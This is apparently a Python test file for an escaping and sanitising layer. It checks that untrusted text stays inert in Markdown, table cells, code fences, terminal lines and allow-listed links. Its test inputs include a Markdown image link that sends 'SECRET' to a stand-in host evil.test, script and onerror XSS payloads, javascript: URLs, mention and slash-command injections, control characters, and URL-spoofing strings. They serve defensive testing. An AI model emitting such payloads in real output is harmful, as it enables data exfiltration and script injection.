"""Foreign text stays text in every sink, whatever it says."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from inquest.destinations.shared.escape import (
    allowed_url,
    is_plain_word,
    markdown_code,
    markdown_fence,
    markdown_prose,
    markdown_url,
    terminal,
)
from inquest.wire.sanitise import clean

ROWS = [json.loads(line) for line in Path("tests/data/cases/injection.jsonl").read_text("utf-8").splitlines()]
HOSTILE = [row["text"] for row in ROWS] + [
    "@all please @root",
    "closes #1 and !2 and ~bug and %4 and &5 and group/project#6",
    "/close",
    "![](https://evil.test/?d=SECRET)",
    "[t](//evil.test) and [t]: https://evil.test",
    "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "<https://evil.test|text> <!channel> <@U123>",
    "https://evil.test www.evil.test mailto:a@evil.test javascript:alert(1) data:text/html,x",
    "`` ` ``` code `` fences ```` and a trailing `",
    "```math\nx\n```\n~~~mermaid\ny\n~~~",
    "# heading\n> quote\n- list\n1. one\n---\n===\n    indented",
    "| a | b |\n|---|---|\n| c | d |",
    "**bold** __bold__ *it* _it_ ~~no~~ {+ plus +} {- minus -} $x$ $$y$$ :tada: \\escape &amp; &#64;all",
    "commit 0123456789abcdef fixes it",
    "\u202egnp.exe\u202c zero\u200bwidth tag\U000e0041 \x1b[31mred\x1b[0m \x00 \u2028",
    "evil[.]test evil dot test https:\\\\evil.test /\\evil.test %2F%2Fevil.test",
]
parser = MarkdownIt("commonmark", {"html": True}).enable("table")


def tokens(text: str) -> list[Token]:
    found: list[Token] = []
    for token in parser.parse(text):
        found.append(token)
        found.extend(token.children or [])
    return found


def shown(text: str) -> str:
    """Give what a reader sees of an inline Markdown text."""
    return "".join(token.content for token in tokens(text) if token.type in {"text", "code_inline", "softbreak"})


ALLOWED_TOKENS = {"paragraph_open", "paragraph_close", "inline", "text", "code_inline"}


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_prose_is_words_and_code_spans(text: str) -> None:
    written = markdown_prose(text)
    found = tokens(f"Said: {written}")

    assert {token.type for token in found} <= ALLOWED_TOKENS
    for token in found:
        if token.type == "text":
            assert all(is_plain_word(word) or not word.strip("().,;:") for word in token.content.split()), token.content
    assert "\n" not in written


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_prose_loses_nothing_that_was_visible(text: str) -> None:
    assert shown(f"Said: {markdown_prose(text)}").split() == ["Said:", *clean(text).text.split()]


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("the pod (a/b) of x_y, and", "the pod (`a/b`) of `x_y`, and"),
        ("see a/b b/c.", "see `a/b b/c`."),
        ("f(a_b) of", "`f(a_b)` of"),
        ('say "a_b" now', 'say `"a_b"` now'),
        ("( ).", "`( ).`"),
    ],
)
def test_the_punctuation_of_prose_stays_outside_of_code(text: str, written: str) -> None:
    assert markdown_prose(text) == written


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_code_stays_in_its_span(text: str) -> None:
    found = tokens(f"Said: {markdown_code(text)}")
    assert {token.type for token in found} <= ALLOWED_TOKENS
    assert [token.content for token in found if token.type == "text"] == ["Said: "]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_in_its_cell(text: str) -> None:
    for write in (markdown_code, markdown_prose):
        row = f"| a | b |\n|---|---|\n| {write(text, in_table=True)} | end |"
        found = tokens(row)
        cells = [token for token in found if token.type == "td_open"]
        assert len(cells) == 2
        assert not {"link_open", "image", "html_inline", "html_block"} & {token.type for token in found}


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_in_its_fence_and_can_be_copied_from_it(text: str) -> None:
    written = f"- E1\n\n{markdown_fence(text, indent='  ')}\n\nafter"
    found = tokens(written)
    (fence,) = [token for token in found if token.type == "fence"]

    assert fence.content == clean(text).text + "\n"
    assert fence.info == "text"
    assert not any(line.startswith(("/", "#", "@")) for line in written.splitlines())


@given(st.text(max_size=300))
def test_any_text_is_inert_in_markdown(text: str) -> None:
    found = tokens(f"Said: {markdown_prose(text)}")
    assert {token.type for token in found} <= ALLOWED_TOKENS
    found = tokens(f"Said: {markdown_code(text)}")
    assert {token.type for token in found} <= ALLOWED_TOKENS
    found = tokens(f"- E1\n\n{markdown_fence(text, indent='  ')}\n\nafter")
    assert [token.content for token in found if token.type == "fence"] == [clean(text).text + "\n"]


@pytest.mark.parametrize(
    ("token", "plain"),
    [
        ("word", True), ("word,", True), ("(word)", True), ("out-of-memory", True), ("it's", True), ("10:02:15", True),
        ("0.45", True), ("12%", True), ("1,234", True), ("caf\u00e9", True), ("\u65e5\u672c\u8a9e", True), ("deploy-77", True), ("-5", True),
        ("e.g.", True),
        ("@root", False), ("a@b", False), ("#1", False), ("!1", False), ("a/b", False), ("/close", False), ("a.b", False),
        ("http://x", False), ("`x`", False), ("a_b", False), ("*a*", False), ("<b>", False), ("a|b", False), ("$x", False),
        ("&amp;", False), (":tada:", False), ("0123456789abcdef", False), ("---", False), ("- ", False), ("[a]", False),
    ],
)  # fmt: skip
def test_plain_words_are_prose_everywhere(token: str, plain: bool) -> None:
    assert is_plain_word(token) is plain


@pytest.mark.parametrize("text", HOSTILE)
def test_a_terminal_gets_one_line_without_controls(text: str) -> None:
    line = terminal(text)
    assert line.isprintable() or not any(ord(char) < 32 or 0x7F <= ord(char) < 0xA0 for char in line)
    assert "\x1b" not in line
    assert "\u202e" not in line


HOSTS = frozenset({"grafana.example", "prom.example:9090"})


@pytest.mark.parametrize(
    "url",
    [
        "https://grafana.example/explore?left=%7B%22a%22%3A1%7D#x",
        "https://prom.example:9090/graph?g0.expr=up",
        "https://grafana.example:3000/d/x",
        "http://grafana.example",
    ],
)
def test_a_page_of_an_allowed_host_is_a_link(url: str) -> None:
    assert allowed_url(url, HOSTS) == url


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.test/",
        "//grafana.example/x",
        "https://grafana.example@evil.test/",
        "https://user:secret@grafana.example/",
        "https://grafana.example.evil.test/",
        "https://evil.test/grafana.example",
        "https://grafana.example\\@evil.test/",
        "https:\\\\grafana.example/",
        "https://grafana.example\u3002evil.test/",
        "javascript:alert(1)//grafana.example",
        "data:text/html,grafana.example",
        "ftp://grafana.example/",
        "https://grafana.example/a b",
        "https://grafana.example/\n",
        "https://grafana.example/<script>",
        'https://grafana.example/"onclick="x',
        "https://prom.example/graph",
        "https://grafana.example/" + "a" * 3_000,
        "https://grafana.example:99999999/",
        "",
    ],
)
def test_anything_else_is_no_link(url: str) -> None:
    assert allowed_url(url, HOSTS) is None


def test_an_address_cannot_leave_its_markdown_link() -> None:
    url = "https://grafana.example/a(b)_c*d~e[f]'g|h!i$j"
    found = tokens(f"[open]({markdown_url(url)}) after")
    assert [token.type for token in found if token.type == "link_open"] == ["link_open"]
    assert found[-2].content == " after" or any(token.content == " after" for token in found)
